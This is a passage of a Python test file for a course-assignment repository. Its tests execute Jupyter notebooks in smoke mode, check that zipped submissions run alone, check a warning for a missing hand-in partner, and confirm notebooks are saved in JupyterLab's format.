        "    assert pathlib.Path(sys.modules['helpers'].__file__).parent == pathlib.Path.cwd(), "
        "sys.modules['helpers'].__file__"))
    env = {"SMOKE": "1", "PROGRESS_BARS": "0", "DATA_ROOT": str(data_root()), "NOTEBOOK_PATH": str(path),
           "PYTHONPATH": str(path.parent)}
    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        NotebookClient(nb, timeout=timeout, kernel_name="python3",
                       resources={"metadata": {"path": str(path.parent)}}).execute()
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


@pytest.mark.skipif(os.environ.get("CHECK_REPORTS") != "1",
                    reason="slow (every notebook again, from the unpacked zips): `make check-reports` runs it")
@pytest.mark.parametrize("assignment", list(build_reports.SUBMISSIONS))
def test_zips_run_alone(assignment, tmp_path):
    """Each code zip unpacked into an empty folder runs its notebooks in order (smoke mode, offline data); the a3
    notebook runs by itself in an empty folder."""
    folder = ROOT / "reports" / assignment
    if not folder.exists():
        pytest.skip(f"reports/{assignment}/ is not built: run `make reports` first")
    if assignment == "a3_cnn_catdog":
        notebook = next(folder.glob("*_Assgn3.ipynb"))
        shutil.copy(notebook, tmp_path / notebook.name)
        run_notebook(tmp_path / notebook.name)
        return
    with zipfile.ZipFile(folder / build_reports.SUBMISSIONS[assignment]["zip"]) as z:
        z.extractall(tmp_path)
    unpacked = tmp_path / assignment
    assert sorted(p.name for p in tmp_path.iterdir()) == [assignment]
    order = [p.name for p in build_reports.helpers.notebook_paths(assignment)]
    assert sorted(order) == sorted(p.name for p in unpacked.glob("*.ipynb"))
    for name in order:
        run_notebook(unpacked / name)


@needs_pdf_tools
def test_a_pair_hand_in_without_a_partner_says_so(tiny_repo, capsys):
    assert build_reports.main(["--name=Ada Lovelace", "--id=1815", "a3_feedforward"]) == 0
    assert "a3_feedforward is handed in by a pair and its partner is not set" in capsys.readouterr().out
    assert build_reports.main(["--partner=Charles Babbage", "--partner-id=1791", "a3_feedforward"]) == 0
    assert "partner is not set" not in capsys.readouterr().out


def test_committed_notebooks_are_saved_as_jupyterlab_writes_them():
    """Opening a notebook in JupyterLab changes nothing: the file is what Jupyter's save (nbformat.write) writes back,
    with the kernelspec name JupyterLab gives the ipykernel kernel."""
    repo = build_reports.REPO
    differ = []
    for path in sorted((repo / "notebooks").rglob("*.ipynb")):
        nb = nbformat.read(path, as_version=4)
        saved = nbformat.writes(nb)
        if path.read_text() != saved + ("" if saved.endswith("\n") else "\n") or \
                nb.metadata.get("kernelspec", {}).get("display_name") != "Python 3 (ipykernel)":
            differ.append(str(path.relative_to(repo)))
    assert not differ, f"not in the form JupyterLab writes back (re-save them with nbformat.write): {differ}"
